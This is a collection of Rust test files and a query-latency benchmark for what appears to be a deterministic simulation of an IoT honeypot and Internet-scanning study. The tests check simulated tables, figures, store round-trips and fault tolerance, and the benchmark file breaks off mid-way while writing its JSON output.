//! assert every experiment's "shape" — the qualitative structure the paper
//! reports — plus determinism.

use std::sync::OnceLock;

use ofh_core::{Study, StudyConfig};
use openforhire_suite as _;

fn report() -> &'static ofh_core::StudyReport {
    static REPORT: OnceLock<ofh_core::StudyReport> = OnceLock::new();
    REPORT.get_or_init(|| Study::new(StudyConfig::quick(42)).run())
}

use ofh_core::devices::{DeviceType, Misconfig};
use ofh_core::honeypots::WildHoneypot;
use ofh_core::intel::Country;
use ofh_core::wire::Protocol;

#[test]
fn table4_shape() {
    let t4 = &report().table4;
    // Protocol ordering of the ZMap column: Telnet > MQTT > UPnP > CoAP >
    // XMPP > AMQP, as in the paper.
    let z = |p| t4.row(p).zmap;
    assert!(z(Protocol::Telnet) > z(Protocol::Mqtt));
    assert!(z(Protocol::Mqtt) > z(Protocol::Upnp));
    assert!(z(Protocol::Upnp) > z(Protocol::Coap));
    assert!(z(Protocol::Coap) > z(Protocol::Xmpp));
    assert!(z(Protocol::Xmpp) > z(Protocol::Amqp));
    // ZMap sees at least as much as each dataset provider, per protocol.
    for p in Protocol::SCANNED {
        let row = t4.row(p);
        if let Some(sonar) = row.sonar {
            assert!(row.zmap >= sonar, "{p}: zmap {} < sonar {sonar}", row.zmap);
        }
        assert!(row.zmap >= row.shodan, "{p}");
    }
    // Sonar has no AMQP/XMPP datasets.
    assert!(t4.row(Protocol::Amqp).sonar.is_none());
    assert!(t4.row(Protocol::Xmpp).sonar.is_none());
    // Shodan's Telnet coverage is famously thin; its CoAP coverage is rich.
    let telnet = t4.row(Protocol::Telnet);
    let coap = t4.row(Protocol::Coap);
    assert!((telnet.shodan as f64) < telnet.zmap as f64 * 0.1);
    assert!((coap.shodan as f64) > coap.zmap as f64 * 0.7);
}

#[test]
fn table5_shape() {
    let t5 = &report().table5;
    let c = |m| t5.row(m).devices;
    // Reflection-attack resources dominate (UPnP > CoAP > everything).
    assert!(c(Misconfig::UpnpReflection) > c(Misconfig::CoapReflection));
    assert!(c(Misconfig::CoapReflection) > c(Misconfig::XmppAnonymousLogin));
    assert!(c(Misconfig::XmppAnonymousLogin) >= c(Misconfig::MqttNoAuth));
    // Every class is present (small cells survive scaling).
    for m in Misconfig::ALL {
        assert!(c(m) >= 1, "{m:?} vanished");
    }
    // Reflection classes are >80% of the total, as in the paper.
    let reflect = c(Misconfig::UpnpReflection) + c(Misconfig::CoapReflection);
    assert!(reflect as f64 / t5.total as f64 > 0.7);
    // The honeypot filter removed something.
    assert!(t5.honeypots_filtered > 0);
}

#[test]
fn table6_shape() {
    let fp = &report().fingerprint;
    let counts = fp.counts();
    // Every Telnet-visible family is detected at least once; zero false
    // positives would fail as inflated counts relative to ground truth —
    // the quick preset deploys exactly one instance per family.
    for family in WildHoneypot::ALL {
        if family == WildHoneypot::Kippo {
            continue; // SSH-only: not in the Telnet scan results
        }
        assert_eq!(counts.get(&family).copied().unwrap_or(0), 1, "{family}");
    }
    assert_eq!(fp.total(), 8);
}

#[test]
fn table7_shape() {
    let t7 = &report().table7;
    // Every paper row is populated.
    for &(hp, proto, _) in ofh_core::attack::plan::TABLE7_VOLUMES {
        assert!(t7.events_of(hp, proto) > 0, "{hp}/{proto} row empty");
    }
    // HosTaGe logs the most events (it exposes the most protocols).
    let hostage: u64 = t7.rows.iter().filter(|r| r.honeypot == "HosTaGe").map(|r| r.events).sum();
    for hp in ["U-Pot", "ThingPot"] {
        let total: u64 = t7.rows.iter().filter(|r| r.honeypot == hp).map(|r| r.events).sum();
        assert!(hostage > total, "HosTaGe ({hostage}) must exceed {hp} ({total})");
    }
    // Source classification finds all three classes on every honeypot.
    for s in &t7.sources {
        assert!(s.scanning > 0, "{}: no scanning services", s.honeypot);
        assert!(s.malicious > 0, "{}: no malicious sources", s.honeypot);
    }
}

#[test]
fn table8_shape() {
    let t8 = &report().table8;
    // Telnet dominates the telescope by an order of magnitude.
    let telnet = t8.row(Protocol::Telnet).unwrap();
    for p in [Protocol::Mqtt, Protocol::Coap, Protocol::Amqp, Protocol::Xmpp, Protocol::Upnp] {
        let row = t8.row(p).unwrap();
        assert!(
            telnet.daily_avg_count > row.daily_avg_count * 10.0,
            "Telnet ({}) must dwarf {p} ({})",
            telnet.daily_avg_count,
            row.daily_avg_count
        );
    }
    // Unknown sources dominate scanning services overall.
    assert!(telnet.unknown_sources > telnet.scanning_service_sources);
}

#[test]
fn table10_shape() {
    let t10 = &report().table10;
    assert_eq!(t10.top(), Some(Country::Usa));
    assert!(t10.count_of(Country::Usa) > t10.count_of(Country::China));
    // Top-5 countries carry the majority.
    let top5: u64 = t10.rows.iter().take(5).map(|&(_, n)| n).sum();
    assert!(top5 as f64 / t10.total as f64 > 0.5);
}

#[test]
fn table12_shape() {
    let t12 = &report().table12;
    // admin/admin tops both protocols, as in Table 12.
    let (u, p, telnet_count) = t12.top_credential(Protocol::Telnet).expect("telnet creds");
    assert_eq!((u, p), ("admin", "admin"));
    let (u, p, ssh_count) = t12.top_credential(Protocol::Ssh).expect("ssh creds");
    assert_eq!((u, p), ("admin", "admin"));
    assert!(telnet_count > 0 && ssh_count > 0);
    // The Mirai-signature credential appears somewhere in the log.
    assert!(t12
        .rows
        .iter()
        .any(|(_, _, pw, _)| pw == "xc3511"));
}

#[test]
fn table13_shape() {
    let t13 = &report().table13;
    // Mirai variants dominate the captured corpus.
    let mirai = t13.variants_of("Mirai");
    assert!(mirai >= 3, "only {mirai} Mirai variants captured");
    for family in ["WannaCry"] {
        assert!(t13.variants_of(family) >= 1, "{family} missing");
    }
    // Hashes are genuine SHA-256 of the dropped bytes (64 hex chars).
    assert!(t13.rows.iter().all(|r| r.sha256_hex.len() == 64));
}

#[test]
fn fig2_shape() {
    let fig2 = &report().fig2;
    // Cameras and DSL modems dominate Telnet; routers strong on UPnP.
    assert!(fig2.count(Protocol::Telnet, DeviceType::Camera) > 0);
    assert!(fig2.count(Protocol::Telnet, DeviceType::DslModem) > 0);
    assert!(fig2.count(Protocol::Upnp, DeviceType::Router) > 0);
    // XMPP and AMQP responses identify no device types (§4.1.2).
    assert_eq!(fig2.identified_on(Protocol::Xmpp), 0);
    assert_eq!(fig2.identified_on(Protocol::Amqp), 0);
}

#[test]
fn fig3_shape() {
    let fig3 = &report().fig3;
    let ranked = fig3.ranked_services();
    assert!(ranked.len() >= 10, "only {} services seen", ranked.len());
    // Stretchoid and Censys lead (Fig. 3's big slices).
    let top3: Vec<&str> = ranked.iter().take(3).map(|(s, _)| s.as_str()).collect();
    assert!(
        top3.contains(&"stretchoid-com") || top3.contains(&"censys"),
        "top-3 was {top3:?}"
    );
}

#[test]
fn fig4_fig7_shape() {
    use ofh_core::analysis::AttackType;
    let b = &report().breakdown;
    // DoS dominates U-Pot (>80% of its traffic was DoS, §5.1.3).
    let upot = b.per_honeypot("U-Pot");
    let upot_total: u64 = upot.values().sum();
    let upot_dos = *upot.get(&AttackType::Dos).unwrap_or(&0);
    assert!(
        upot_dos as f64 / upot_total as f64 > 0.4,
        "U-Pot DoS share {}/{upot_total}",
        upot_dos
    );
    // UDP protocols carry a higher DoS share than TCP protocols (Fig. 7).
    let udp_dos = (b.share(Protocol::Coap, AttackType::Dos)
        + b.share(Protocol::Upnp, AttackType::Dos))
        / 2.0;
    let tcp_dos = (b.share(Protocol::Telnet, AttackType::Dos)
        + b.share(Protocol::Ssh, AttackType::Dos))
        / 2.0;
    assert!(udp_dos > tcp_dos, "udp {udp_dos} vs tcp {tcp_dos}");
    // Brute force is a major share on Telnet/SSH.
    assert!(b.share(Protocol::Telnet, AttackType::BruteForce) > 0.1);
    // Poisoning appears on MQTT/AMQP.
    assert!(b.share(Protocol::Amqp, AttackType::DataPoisoning) > 0.0);
}

#[test]
fn fig5_shape() {
    let fig5 = &report().fig5;
    // GreyNoise agrees on the majority but misses some of our services
    // (the 2,023-IP gap / Europe-only scanners).
    assert!(fig5.missed_by_greynoise > 0);
    let mut any_majority = false;
    for &(_, ours, gn, _) in &fig5.rows {
        if ours >= 4 && gn as f64 >= ours as f64 * 0.5 {
            any_majority = true;
        }
        assert!(gn <= ours);
    }
    assert!(any_majority, "GreyNoise should agree on a majority somewhere");
}

#[test]
fn fig6_shape() {
    let fig6 = &report().fig6;
    // SMB sources are heavily VT-catalogued (WannaCry spreaders): the SMB
    // honeypot share beats the discovery-heavy UDP protocols. (Telnet/SSH
    // rows are inflated at quick scale by the oversampled infected set,
    // which is 100% VT-flagged by construction, so they are not compared.)
    let smb = fig6.malicious_share(Protocol::Smb, "H").expect("SMB row");
    assert!(smb >= 0.3, "SMB share {smb}");
    for p in [Protocol::Upnp, Protocol::Coap] {
        if let Some(share) = fig6.malicious_share(p, "H") {
            assert!(smb >= share, "SMB {smb} vs {p} {share}");
        }
    }
    // Both datasets (H and T) produce rows.
    assert!(fig6.rows.iter().any(|(_, tag, _, _)| *tag == "H"));
    assert!(fig6.rows.iter().any(|(_, tag, _, _)| *tag == "T"));
}

#[test]
fn fig8_shape() {
    let fig8 = &report().fig8;
    assert_eq!(fig8.per_day.len(), 30);
    // Listings are marked (Shodan first).
    assert!(fig8.listings.iter().any(|(s, d)| s == "Shodan" && *d == 4));
    // Upward trend after listings.
    let (pre, post) = fig8.pre_post_listing_means();
    assert!(post > pre, "post {post} <= pre {pre}");
    // The peak lands on a DoS day (Fig. 8's day-24/26 spikes).
    let peak = fig8.peak_day() as u64;
    assert!(
        ofh_core::attack::plan::DOS_DAYS.contains(&peak) || peak >= 15,
        "peak at day {peak}"
    );
}

#[test]
fn fig9_shape() {
    let fig9 = &report().fig9;
    assert!(fig9.attackers > 0);
    // Most chains start at Telnet or SSH.
    let stage0_telnet_ssh =
        fig9.count_at(0, Protocol::Telnet) + fig9.count_at(0, Protocol::Ssh);
    let stage0_total: u64 = fig9
        .stages
        .iter()
        .filter(|(i, _, _)| *i == 0)
        .map(|(_, _, n)| n)
        .sum();
    assert!(
        stage0_telnet_ssh as f64 / stage0_total as f64 > 0.5,
        "{stage0_telnet_ssh}/{stage0_total}"
    );
}

#[test]
fn infected_join_shape() {
    let inf = &report().infected;
    // The headline: the intersection is non-empty and "both" dominates.
    assert!(inf.total > 0);
    assert!(inf.both >= inf.honeypot_only, "both {} < h-only {}", inf.both, inf.honeypot_only);
    assert!(inf.both >= inf.telescope_only);
    // All infected devices are VT-flagged (the paper: every one of the
    // 11,118 was flagged by at least one vendor).
    assert_eq!(inf.vt_flagged, inf.total);
    // The Censys extension finds additional IoT attackers.
    assert!(inf.censys_total() > 0);
    // Domain analysis finds registered domains.
    assert!(inf.domains > 0);
    assert!(inf.domains_with_webpage <= inf.domains);
}

#[test]
fn report_renders() {
    let full = report().render_full();
    for needle in [
        "Table 4",
        "Table 5",
        "Table 6",
        "Table 7",
        "Table 8",
        "Table 10",
        "Table 12",
        "Table 13",
        "Fig. 2",
        "Fig. 3",
        "Fig. 4",
        "Fig. 5",
        "Fig. 6",
        "Fig. 7",
        "Fig. 8",
        "Fig. 9",
        "infected hosts",
    ] {
        assert!(full.contains(needle), "{needle} missing from report");
    }
}
