//! The store's determinism promise: the columnar file is a pure function
//! of (seed, shards). Worker count — a pure execution knob everywhere else
//! in the engine — must not leak into a single byte of the store, and the
//! file must survive a write → mmap → query round trip intact.

use ofh_core::{Study, StudyConfig, StudyReport};
use ofh_store::{Answer, Query, StoreReader};

fn run_quick(seed: u64, workers: usize) -> StudyReport {
    let mut cfg = StudyConfig::quick(seed);
    cfg.workers = workers;
    Study::new(cfg).run()
}

/// Workers 1 vs 4: identical store bytes (the in-memory build path).
#[test]
fn store_bytes_identical_across_worker_counts() {
    let a = run_quick(7, 1).build_store();
    let b = run_quick(7, 4).build_store();
    if a != b {
        let first = a.iter().zip(&b).position(|(x, y)| x != y);
        panic!(
            "store bytes diverge between workers 1 and 4: lengths {} vs {}, first difference at offset {:?}",
            a.len(),
            b.len(),
            first
        );
    }
}

/// The full disk path: `write_store` at workers 1 vs 4 produces identical
/// files, and reopening one through the mmap reader yields the same tables
/// the in-memory report renders. (ci.sh re-checks this with `cmp` through
/// the CLI's `--store-out`.)
#[test]
#[cfg_attr(debug_assertions, ignore = "slow in debug; run with --release")]
fn written_store_identical_and_queryable() {
    let dir = std::env::temp_dir();
    let p1 = dir.join("ofh_test_store_w1.store");
    let p4 = dir.join("ofh_test_store_w4.store");
    let report = run_quick(42, 1);
    report.write_store(&p1).expect("write workers=1 store");
    run_quick(42, 4).write_store(&p4).expect("write workers=4 store");

    let b1 = std::fs::read(&p1).expect("read back");
    let b4 = std::fs::read(&p4).expect("read back");
    assert_eq!(b1, b4, "written stores differ between workers 1 and 4");

    let reader = StoreReader::open(&p1).expect("open store");
    for (n, expected) in [
        (4u8, report.table4.render()),
        (5, report.table5.render()),
        (7, report.table7.render()),
    ] {
        match reader.execute(&Query::Table(n)).expect("table renders") {
            Answer::Rendered(s) => assert_eq!(s, expected, "table {n} diverged via mmap"),
            other => panic!("expected rendered table, got {other:?}"),
        }
    }
    let _ = std::fs::remove_file(&p1);
    let _ = std::fs::remove_file(&p4);
}
