//! The sharded engine's central promise: the worker-thread count is a pure
//! execution knob. Any value must produce a byte-identical `StudyReport` —
//! the shard count (fixed per preset) is the only simulation parameter.
//!
//! These tests run the quick profile at several worker counts and diff the
//! rendered outputs, reporting the first divergent line on failure so a
//! determinism regression points straight at the table that drifted.

use ofh_core::{PopulationMode, Study, StudyConfig, StudyReport};

fn run_quick(seed: u64, workers: usize) -> StudyReport {
    let mut cfg = StudyConfig::quick(seed);
    cfg.workers = workers;
    Study::new(cfg).run()
}

/// Line-by-line diff that names the first divergent line, so a failure shows
/// *where* two worker counts disagree instead of two walls of text.
fn assert_identical_lines(section: &str, wa: usize, wb: usize, a: &str, b: &str) {
    for (i, (la, lb)) in a.lines().zip(b.lines()).enumerate() {
        assert_eq!(
            la,
            lb,
            "{section}: first divergent line is {} (workers={wa} vs workers={wb})",
            i + 1
        );
    }
    assert_eq!(
        a.lines().count(),
        b.lines().count(),
        "{section}: line counts differ (workers={wa} vs workers={wb})"
    );
}

/// Quick profile at workers ∈ {1, 2, 8}: Tables 4, 5 and 7 must render to
/// identical text, diffed line-by-line.
#[test]
fn quick_profile_tables_identical_across_worker_counts() {
    let baseline = run_quick(11, 1);
    for workers in [2usize, 8] {
        let report = run_quick(11, workers);
        assert_identical_lines("table4", 1, workers, &baseline.table4.render(), &report.table4.render());
        assert_identical_lines("table5", 1, workers, &baseline.table5.render(), &report.table5.render());
        assert_identical_lines("table7", 1, workers, &baseline.table7.render(), &report.table7.render());
    }
}

/// The golden-report guarantee: the FULL rendered report — every table,
/// figure and the summary header — is byte-identical at workers 1, 4 and 16.
#[test]
fn golden_report_workers_1_4_16() {
    let golden = run_quick(42, 1).render_full();
    for workers in [4usize, 16] {
        let report = run_quick(42, workers).render_full();
        assert_identical_lines("render_full", 1, workers, &golden, &report);
        assert_eq!(golden, report, "golden report mismatch at workers={workers}");
    }
}

/// The streaming-population guarantee: hosts materialized on first touch
/// from the struct-of-arrays arena are indistinguishable from hosts attached
/// eagerly at shard start. The FULL rendered report must be byte-identical
/// across both population modes *and* worker counts — the four combinations
/// below triangulate mode × parallelism.
#[test]
fn implicit_population_matches_eager_byte_for_byte() {
    let run = |mode: PopulationMode, workers: usize| {
        let mut cfg = StudyConfig::quick(23);
        cfg.population = mode;
        cfg.workers = workers;
        Study::new(cfg).run().render_full()
    };
    let golden = run(PopulationMode::Eager, 1);
    for (mode, workers) in [
        (PopulationMode::Implicit, 1),
        (PopulationMode::Eager, 8),
        (PopulationMode::Implicit, 8),
    ] {
        let report = run(mode, workers);
        assert_identical_lines(
            &format!("render_full[{mode:?}]"),
            1,
            workers,
            &golden,
            &report,
        );
        assert_eq!(golden, report, "population mode {mode:?} diverged at workers={workers}");
    }
}

/// Same guarantee on the standard profile (2^20 universe). Minutes-long in
/// debug builds, so it only runs under `--release` (e.g. via ci.sh).
#[test]
#[cfg_attr(debug_assertions, ignore = "slow in debug; run with --release")]
fn standard_profile_golden_report() {
    let run = |workers: usize| {
        let mut cfg = StudyConfig::standard(99);
        cfg.workers = workers;
        Study::new(cfg).run().render_full()
    };
    let golden = run(1);
    let parallel = run(8);
    assert_identical_lines("standard render_full", 1, 8, &golden, &parallel);
    assert_eq!(golden, parallel);
}
