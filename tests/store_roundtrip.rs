//! Store round-trip property: the columnar store is a lossless carrier of
//! the study's published aggregates. For random seeds, Tables 4, 5 and 7
//! recomputed *from the store file* must render byte-identically to the
//! in-memory `StudyReport` ones, and indexed counts must agree with direct
//! tallies over the in-memory artifacts.
//!
//! (Column-codec round-trip properties live in
//! `crates/store/tests/roundtrip.rs`; this file covers the end the paper
//! cares about — the aggregates.)

use ofh_core::{Study, StudyConfig, StudyReport};
use ofh_store::{Answer, Query, StoreReader};

fn run_quick(seed: u64) -> (StudyReport, StoreReader) {
    let report = Study::new(StudyConfig::quick(seed)).run();
    let reader = StoreReader::from_bytes(report.build_store()).expect("store parses");
    (report, reader)
}

fn rendered(reader: &StoreReader, q: Query) -> String {
    match reader.execute(&q).expect("query executes") {
        Answer::Rendered(s) => s,
        other => panic!("expected rendered text, got {other:?}"),
    }
}

fn count(reader: &StoreReader, q: Query) -> u64 {
    match reader.execute(&q).expect("query executes") {
        Answer::Count(n) => n,
        other => panic!("expected a count, got {other:?}"),
    }
}

/// The property, over a handful of deterministic seeds (a full quick study
/// per seed keeps the case count modest).
#[test]
fn store_tables_match_report_across_seeds() {
    for seed in [7u64, 11, 42, 1337, 0xDEAD] {
        let (report, reader) = run_quick(seed);
        assert_eq!(
            rendered(&reader, Query::Table(4)),
            report.table4.render(),
            "table 4 diverged at seed {seed}"
        );
        assert_eq!(
            rendered(&reader, Query::Table(5)),
            report.table5.render(),
            "table 5 diverged at seed {seed}"
        );
        assert_eq!(
            rendered(&reader, Query::Table(7)),
            report.table7.render(),
            "table 7 diverged at seed {seed}"
        );
    }
}

/// Indexed counts agree with direct tallies over the in-memory artifacts,
/// and point lookups return exactly the records the scan tables hold.
#[test]
fn store_counts_match_in_memory_tallies() {
    let (report, reader) = run_quick(7);

    // Unfiltered per-table row counts.
    let scan_rows = report.zmap_results.records.len()
        + report.sonar_results.records.len()
        + report.shodan_results.records.len();
    let no_scan_filter = Query::CountScan {
        source: None,
        protocol: None,
        misconfig: None,
        country: None,
    };
    assert_eq!(count(&reader, no_scan_filter), scan_rows as u64);

    let no_event_filter = Query::CountEvents {
        honeypot: None,
        protocol: None,
        attack_type: None,
        class: None,
    };
    assert_eq!(
        count(&reader, no_event_filter),
        report.dataset.events.len() as u64
    );

    let no_tel_filter = Query::CountTelescope {
        protocol: None,
        country: None,
    };
    assert_eq!(
        count(&reader, no_tel_filter),
        report.telescope.records().count() as u64
    );

    // A bitmap-filtered count equals the naive scan of the source results.
    let zmap_only = Query::CountScan {
        source: Some("ZMap Scan".into()),
        protocol: None,
        misconfig: None,
        country: None,
    };
    assert_eq!(
        count(&reader, zmap_only),
        report.zmap_results.records.len() as u64
    );

    // An unknown label short-circuits to zero rather than erroring.
    let unknown = Query::CountScan {
        source: Some("no-such-source".into()),
        protocol: None,
        misconfig: None,
        country: None,
    };
    assert_eq!(count(&reader, unknown), 0);

    // Every stored zmap record is reachable by point lookup, with the port
    // and protocol it was stored under.
    for ((addr, port), record) in report.zmap_results.records.iter().take(50) {
        let hits = match reader
            .execute(&Query::HostLookup { addr: *addr })
            .expect("lookup executes")
        {
            Answer::Hosts(hits) => hits,
            other => panic!("expected host hits, got {other:?}"),
        };
        let hit = hits
            .iter()
            .find(|h| h.source == "ZMap Scan" && h.port == *port)
            .unwrap_or_else(|| panic!("no zmap hit for {addr}:{port}"));
        assert_eq!(hit.protocol, record.protocol.name());
    }

    // A full-range time scan sees every event; an empty range sees none.
    let all_events = Query::EventsInRange {
        start_ms: 0,
        end_ms: u64::MAX,
        honeypot: None,
    };
    assert_eq!(
        count(&reader, all_events),
        report.dataset.events.len() as u64
    );
    let none = Query::EventsInRange {
        start_ms: 0,
        end_ms: 0,
        honeypot: None,
    };
    assert_eq!(count(&reader, none), 0);
}
