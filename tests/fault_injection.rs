//! Adverse network conditions: the pipeline must survive packet loss and
//! jitter (ZMap tolerates ~2% loss on the real Internet; our scanner is
//! equally stateless about it).

use ofh_core::wire::Protocol;
use ofh_core::{Study, StudyConfig};
use ofh_net::{FaultPlan, FaultSchedule};
use openforhire_suite as _;

#[test]
fn lossy_network_degrades_gracefully() {
    let clean = Study::new(StudyConfig::quick(9)).run();
    let lossy = Study::new(StudyConfig {
        faults: FaultSchedule::lossy(),
        ..StudyConfig::quick(9)
    })
    .run();

    // Loss costs some responses but the pipeline completes and every
    // experiment still produces data.
    let clean_exposed = clean.table4.total_zmap();
    let lossy_exposed = lossy.table4.total_zmap();
    assert!(lossy_exposed > 0);
    assert!(
        lossy_exposed <= clean_exposed,
        "loss cannot create hosts: {lossy_exposed} > {clean_exposed}"
    );
    assert!(
        lossy_exposed as f64 > clean_exposed as f64 * 0.8,
        "2% loss should cost <20% of coverage, got {lossy_exposed}/{clean_exposed}"
    );

    // Orderings survive loss.
    assert!(lossy.table4.row(Protocol::Telnet).zmap > lossy.table4.row(Protocol::Amqp).zmap);
    assert!(lossy.table5.total > 0);
    assert!(lossy.table7.total_events > 0);
    assert!(lossy.telescope.total_records() > 0);
    assert!(lossy.infected.total > 0);

    // Degradation accounting: the clean run reports all-zero resilience;
    // the lossy run's identity holds by construction.
    assert_eq!(clean.resilience.scan_retries_issued, 0);
    assert_eq!(clean.resilience.tcp_handshake_drops, 0);
    assert!(
        lossy.resilience.scan_retries_recovered <= lossy.resilience.scan_first_attempt_losses
    );
}

#[test]
fn extreme_loss_still_terminates() {
    // A 30%-loss Internet is nearly unusable, but the simulation must
    // neither hang nor panic.
    let report = Study::new(StudyConfig {
        faults: FaultSchedule::uniform(FaultPlan {
            drop_chance: 0.3,
            corrupt_chance: 0.01,
            jitter_ms: 200,
            ..FaultPlan::NONE
        }),
        ..StudyConfig::quick(5)
    })
    .run();
    assert!(report.table4.total_zmap() > 0);
    assert!(report.counters.conn_timeouts > 0, "loss must cause timeouts");
}
