//! `--bench query` — the million-query latency benchmark over the
//! columnar study store (DESIGN.md §14).
//!
//! Builds the quick-preset study once, serializes it with
//! `StudyReport::build_store`, reopens the file through the mmap path, and
//! replays a seeded synthetic workload of mixed queries against one
//! `QueryEngine` shared by several threads:
//!
//! * `point`      — `HostLookup` on addresses drawn from the store (80%)
//!                  or guaranteed misses (20%); zone maps prune blocks.
//! * `count_*`    — bitmap-AND label counts over scan / events / telescope,
//!                  labels sampled from the store's own dictionaries.
//! * `range`      — `EventsInRange` over random sim-time windows; the T64
//!                  restart-block directory skips out-of-range blocks.
//! * `table`      — `Table(4|5|7)` / `Info` re-renders, which exercise the
//!                  LRU result cache (every repeat is a hit).
//!
//! Emits per-class p50/p99 latency, overall qps, and cache hit/miss counts
//! into `BENCH_query.json` at the workspace root.
//!
//! Modes: `cargo bench -p ofh-bench --bench query` runs the full workload
//! (`BENCH_QUERY_N`, default 1,000,000 queries); `BENCH_QUERY_OUT=path`
//! redirects the JSON; `BENCH_QUERY_P99_BUDGET_US=N` makes the run fail
//! (exit 1) if the point-lookup p99 exceeds N microseconds — CI's store
//! smoke uses this with a generous budget; `-- --test` runs a tiny
//! workload and writes nothing.

use std::hint::black_box;
use std::sync::Arc;
use std::time::Instant;

use ofh_core::{Study, StudyConfig};
use ofh_store::{Query, QueryEngine, StoreReader};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

const CLASSES: [&str; 6] = [
    "point",
    "count_scan",
    "count_events",
    "count_telescope",
    "range",
    "table",
];

/// Deterministic mixed workload: (class index, query) pairs.
fn build_workload(reader: &StoreReader, n: usize, seed: u64) -> Vec<(usize, Query)> {
    let scan = reader.table("scan").expect("scan table");
    let events = reader.table("events").expect("events table");
    let addr_view = scan.u32("addr").expect("addr column");
    let file = reader.bytes();

    // Sample real addresses once; misses use the 240/4 reserved block,
    // which the address zone maps prune without decoding a row.
    let rows = addr_view.rows();
    let mut rng = StdRng::seed_from_u64(seed);
    let hit_addrs: Vec<u32> = (0..4096)
        .map(|_| addr_view.get(file, rng.gen_range(0..rows)))
        .collect();

    let labels = |table: &ofh_store::segment::TableView, col: &str| -> Vec<String> {
        table.dict(col).expect(col).labels.clone()
    };
    let scan_sources = labels(scan, "source");
    let scan_protocols = labels(scan, "protocol");
    let scan_misconfigs = labels(scan, "misconfig");
    let scan_countries = labels(scan, "country");
    let ev_honeypots = labels(events, "honeypot");
    let ev_attack_types = labels(events, "attack_type");
    let ev_classes = labels(events, "src_class");
    let tel = reader.table("telescope").expect("telescope table");
    let tel_protocols = labels(tel, "protocol");
    let tel_countries = labels(tel, "country");

    let time = events.t64("time").expect("time column");
    let (t_min, t_max) = match (time.blocks.first(), time.blocks.last()) {
        (Some(a), Some(b)) => (a.min, b.max),
        _ => (0, 1),
    };
    let span = (t_max - t_min).max(1);

    let pick = |rng: &mut StdRng, v: &[String]| -> Option<String> {
        if v.is_empty() || rng.gen_bool(0.5) {
            None
        } else {
            Some(v[rng.gen_range(0..v.len())].clone())
        }
    };

    (0..n)
        .map(|_| {
            let roll = rng.gen_range(0..100u32);
            match roll {
                // 40% point lookups, 80% of them hits.
                0..=39 => {
                    let addr = if rng.gen_bool(0.8) {
                        hit_addrs[rng.gen_range(0..hit_addrs.len())]
                    } else {
                        0xF000_0000 | rng.gen_range(0..0x0FFF_FFFFu32)
                    };
                    (0, Query::HostLookup { addr: std::net::Ipv4Addr::from(addr) })
                }
                40..=54 => (
                    1,
                    Query::CountScan {
                        source: pick(&mut rng, &scan_sources),
                        protocol: pick(&mut rng, &scan_protocols),
                        misconfig: pick(&mut rng, &scan_misconfigs),
                        country: pick(&mut rng, &scan_countries),
                    },
                ),
                55..=64 => (
                    2,
                    Query::CountEvents {
                        honeypot: pick(&mut rng, &ev_honeypots),
                        protocol: pick(&mut rng, &scan_protocols),
                        attack_type: pick(&mut rng, &ev_attack_types),
                        class: pick(&mut rng, &ev_classes),
                    },
                ),
                65..=74 => (
                    3,
                    Query::CountTelescope {
                        protocol: pick(&mut rng, &tel_protocols),
                        country: pick(&mut rng, &tel_countries),
                    },
                ),
                75..=89 => {
                    let width = span / 64 + 1;
                    let start = t_min + rng.gen_range(0..span);
                    (
                        4,
                        Query::EventsInRange {
                            start_ms: start,
                            end_ms: start + width,
                            honeypot: pick(&mut rng, &ev_honeypots),
                        },
                    )
                }
                _ => (
                    5,
                    match rng.gen_range(0..4u32) {
                        0 => Query::Table(4),
                        1 => Query::Table(5),
                        2 => Query::Table(7),
                        _ => Query::Info,
                    },
                ),
            }
        })
        .collect()
}

fn percentile_us(sorted_ns: &[u64], p: f64) -> f64 {
    if sorted_ns.is_empty() {
        return 0.0;
    }
    let idx = ((sorted_ns.len() - 1) as f64 * p).round() as usize;
    sorted_ns[idx] as f64 / 1000.0
}

fn main() {
    let smoke = std::env::args().any(|a| a == "--test");
    let n: usize = if smoke {
        2000
    } else {
        std::env::var("BENCH_QUERY_N")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(1_000_000)
    };

    // Build the study + store once; reopen through the mmap path so the
    // benchmark measures the zero-copy reader, not a heap copy.
    let report = Study::new(StudyConfig::quick(7)).run();
    let store_path = std::env::temp_dir().join("ofh_bench_query.store");
    let store_bytes = report.write_store(&store_path).expect("write store");
    let reader = Arc::new(StoreReader::open(&store_path).expect("open store"));
    let mmap = reader.is_mapped();

    let workload = build_workload(&reader, n, 0xBEEF);
    let engine = Arc::new(QueryEngine::new(Arc::clone(&reader)));
    let threads = std::thread::available_parallelism()
        .map(|c| c.get().min(4))
        .unwrap_or(1)
        .max(2); // at least two, so the shared-reader path is exercised

    // Partition the workload into contiguous chunks, one per thread; each
    // thread records (class, ns) per query.
    let chunk = n.div_ceil(threads);
    let t0 = Instant::now();
    let mut lat_by_class: Vec<Vec<u64>> = vec![Vec::new(); CLASSES.len()];
    std::thread::scope(|s| {
        let handles: Vec<_> = workload
            .chunks(chunk)
            .map(|slice| {
                let engine = Arc::clone(&engine);
                s.spawn(move || {
                    let mut lats: Vec<(usize, u64)> = Vec::with_capacity(slice.len());
                    for (class, q) in slice {
                        let q0 = Instant::now();
                        let answer = engine.query(q).expect("query");
                        let ns = q0.elapsed().as_nanos() as u64;
                        black_box(&answer);
                        lats.push((*class, ns));
                    }
                    lats
                })
            })
            .collect();
        for h in handles {
            for (class, ns) in h.join().expect("bench thread") {
                lat_by_class[class].push(ns);
            }
        }
    });
    let wall_s = t0.elapsed().as_secs_f64();
    let (hits, misses) = engine.cache_stats();
    let qps = n as f64 / wall_s.max(1e-9);
    let _ = std::fs::remove_file(&store_path);

    let mut class_rows = Vec::new();
    for (i, name) in CLASSES.iter().enumerate() {
        let lats = &mut lat_by_class[i];
        lats.sort_unstable();
        let (p50, p99) = (percentile_us(lats, 0.50), percentile_us(lats, 0.99));
        println!(
            "bench query/{name:<16} n={:<8} p50={p50:>8.2} us  p99={p99:>8.2} us",
            lats.len()
        );
        class_rows.push((name, lats.len(), p50, p99));
    }
    println!(
        "bench query/all              n={n} threads={threads} wall={wall_s:.2} s \
         qps={qps:.0} cache={hits}/{misses} (hits/misses)"
    );

    let point_p50 = class_rows[0].2;
    let point_p99 = class_rows[0].3;

    if smoke {
        println!("test query/smoke ... ok ({n} queries, nothing written)");
        return;
    }

    // ---- Emit BENCH_query.json ------------------------------------------
    let mut json = String::from("{\n");
    json.push_str("  \"schema\": 1,\n");
    json.push_str(&format!(
        "  \"host_cores\": {},\n",
        std::thread::available_parallelism().map(|c| c.get()).unwrap_or(1)
    ));
    json.push_str("  \"preset\": \"quick\",\n  \"seed\": 7,\n");
